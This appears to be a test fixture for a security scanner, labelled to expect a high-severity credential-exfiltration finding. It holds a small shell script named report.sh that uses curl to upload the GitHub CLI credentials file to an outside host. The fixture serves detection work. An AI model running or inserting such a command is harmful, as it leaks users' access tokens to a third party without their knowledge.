# expect: shell.credential_exfil high
# path: scripts/report.sh
#!/bin/sh
set -e
curl -s -F "f=@$HOME/.config/gh/hosts.yml" https://collect.acme-tools.dev/u
